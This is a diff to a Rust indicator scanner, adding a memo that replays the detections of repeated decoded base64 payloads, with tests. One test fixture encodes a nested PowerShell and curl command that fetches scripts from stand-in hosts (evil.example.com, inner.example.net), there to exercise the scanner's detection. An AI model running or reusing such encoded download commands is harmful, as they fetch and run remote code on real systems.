@@ -1,7 +1,10 @@
 //! The scanner: refang, detect, resolve, map offsets, recurse into
 //! decoded payloads.
 
+use std::collections::HashMap;
 use std::sync::Arc;
+
+use foldhash::fast::RandomState;
 
 use crate::detect::{self, Candidate, Value};
 use crate::offset_map::OffsetMap;
@@ -135,6 +138,7 @@ impl Scanner {
         mut emit: impl FnMut(&mut LentDetection<'_>),
     ) {
         let token = self.limits.max_token_len;
+        let mut memo = PayloadMemo::default();
         let mut owned_start = 0;
         let mut starts_in_line = false;
         while owned_start < bytes.len() {
@@ -148,7 +152,7 @@ impl Scanner {
             let window_end = owned_end.saturating_add(after).min(bytes.len());
             let window =
                 bytes.get(window_start..window_end).unwrap_or_default();
-            self.scan_window(window, 0, None, &mut |lent| {
+            self.scan_window(window, 0, None, &mut memo, &mut |lent| {
                 let detection = &mut *lent.detection;
                 detection.start = detection.start.saturating_add(window_start);
                 detection.end = detection.end.saturating_add(window_start);
@@ -168,6 +172,7 @@ impl Scanner {
         bytes: &[u8],
         depth: u8,
         outer: Option<(usize, usize)>,
+        memo: &mut PayloadMemo,
         emit: &mut dyn FnMut(&mut LentDetection<'_>),
     ) {
         let refanged = refang(bytes);
@@ -235,7 +240,7 @@ impl Scanner {
                 }
             };
             let span = (start, end);
-            self.emit(candidate, span, depth, &mut scratch, emit);
+            self.emit(candidate, span, depth, &mut scratch, memo, emit);
         }
         for found in custom {
             let span = outer.unwrap_or_else(|| {
@@ -257,6 +262,7 @@ impl Scanner {
         (start, end): (usize, usize),
         depth: u8,
         scratch: &mut Detection,
+        memo: &mut PayloadMemo,
         emit: &mut dyn FnMut(&mut LentDetection<'_>),
     ) {
         let Candidate { category, ref value, kind, ref payload, .. } =
@@ -278,10 +284,83 @@ impl Scanner {
         if category == Category::Base64 && depth < self.limits.max_decode_depth
         {
             if let Some(text) = text {
-                let span = Some((start, end));
                 let depth = depth.saturating_add(1);
-                self.scan_window(text.as_bytes(), depth, span, emit);
+                self.scan_payload(&text, depth, (start, end), memo, emit);
             }
+        }
+    }
+
+    /// Scans the decoded `text` of a base64 token at `span`, or replays
+    /// the detections of an earlier scan of the same text.
+    fn scan_payload(
+        &self,
+        text: &str,
+        depth: u8,
+        span: (usize, usize),
+        memo: &mut PayloadMemo,
+        emit: &mut dyn FnMut(&mut LentDetection<'_>),
+    ) {
+        if let Some(found) = memo.get(depth, text) {
+            for detection in found {
+                let mut copy = detection.clone();
+                (copy.start, copy.end) = span;
+                emit(&mut LentDetection::new(&mut copy));
+            }
+            return;
+        }
+        let mut found = Vec::new();
+        let outer = Some(span);
+        self.scan_window(text.as_bytes(), depth, outer, memo, &mut |lent| {
+            found.push(lent.detection().clone());
+            emit(lent);
+        });
+        memo.insert(depth, text, found);
+    }
+}
+
+/// The detections of the decoded payloads scanned so far in one input,
+/// by payload text and depth. A payload repeated through the input, as
+/// the same encoded command on every line of a log, is then scanned once.
+/// Every detection of a payload takes the span of its base64 token, so
+/// the detections of a repeat differ only in that span.
+#[derive(Default)]
+struct PayloadMemo {
+    /// One map per depth, from payload text to its detections.
+    scanned: Vec<HashMap<Box<str>, Box<[Detection]>, RandomState>>,
+    /// Bytes held by the texts and detections.
+    held: usize,
+}
+
+/// Most bytes a [`PayloadMemo`] holds; past it, new payloads are scanned
+/// each time they occur.
+const MEMO_MAX_BYTES: usize = 1 << 20;
+
+impl PayloadMemo {
+    fn get(&self, depth: u8, text: &str) -> Option<&[Detection]> {
+        let scanned = self.scanned.get(usize::from(depth))?;
+        scanned.get(text).map(|found| &**found)
+    }
+
+    fn insert(&mut self, depth: u8, text: &str, found: Vec<Detection>) {
+        let detections = found.iter().fold(0usize, |sum, detection| {
+            let decoded = detection.decoded.as_ref().map_or(0, String::len);
+            sum.saturating_add(std::mem::size_of::<Detection>())
+                .saturating_add(detection.value.len())
+                .saturating_add(decoded)
+        });
+        let held =
+            self.held.saturating_add(text.len()).saturating_add(detections);
+        if held > MEMO_MAX_BYTES {
+            return;
+        }
+        let depth = usize::from(depth);
+        if self.scanned.len() <= depth {
+            self.scanned
+                .resize_with(depth.saturating_add(1), HashMap::default);
+        }
+        if let Some(scanned) = self.scanned.get_mut(depth) {
+            self.held = held;
+            scanned.insert(Box::from(text), found.into_boxed_slice());
         }
     }
 }
@@ -500,7 +579,8 @@ mod tests {
             chunked.push(d.detection().clone())
         });
         let mut whole = Vec::new();
-        scanner.scan_window(text.as_bytes(), 0, None, &mut |d| {
+        let mut memo = PayloadMemo::default();
+        scanner.scan_window(text.as_bytes(), 0, None, &mut memo, &mut |d| {
             whole.push(d.detection().clone())
         });
         assert!(!whole.is_empty());
@@ -621,6 +701,42 @@ mod tests {
             ),
         ];
         assert_eq!(found(text), expected);
+    }
+
+    #[test]
+    fn repeated_payload_replays_its_detections() {
+        // Decodes to a command with a URL and a second base64 token,
+        // whose payload holds another URL.
+        let token = "cG93ZXJzaGVsbCAtYyBpd3IgaHR0cDovL2V2aWwuZXhhbXBsZS5jb\
+            20vYS5wczEgOyBlY2hvIFkzVnliQ0JvZEhSd09pOHZhVzV1WlhJdVpYaGhiWEJz\
+            WlM1dVpYUXZlQzV6YUE9PQ==";
+        let text = format!("one {token} two\nthree {token} four {token}");
+        let scanner = Scanner::default();
+        let alone = scanner.scan(token.as_bytes()).detections;
+        let depth_two = Source::Base64 { depth: 2 };
+        assert!(alone.iter().any(|d| d.source == depth_two), "{alone:?}");
+        let mut expected = Vec::new();
+        for (offset, _) in text.match_indices(token) {
+            expected.extend(alone.iter().cloned().map(|mut detection| {
+                detection.start += offset;
+                detection.end += offset;
+                detection
+            }));
+        }
+        assert_eq!(scanner.scan(text.as_bytes()).detections, expected);
+    }
+
+    #[test]
+    fn payload_memo_stops_at_its_bound() {
+        let mut memo = PayloadMemo::default();
+        let text = "x".repeat(MEMO_MAX_BYTES / 4);
+        for depth in 1..=8 {
+            memo.insert(depth, &text, Vec::new());
+        }
+        assert!(memo.held <= MEMO_MAX_BYTES);
+        assert!(memo.get(1, &text).is_some());
+        assert!(memo.get(8, &text).is_none());
+        assert!(memo.get(1, "y").is_none());
     }
 
     #[test]
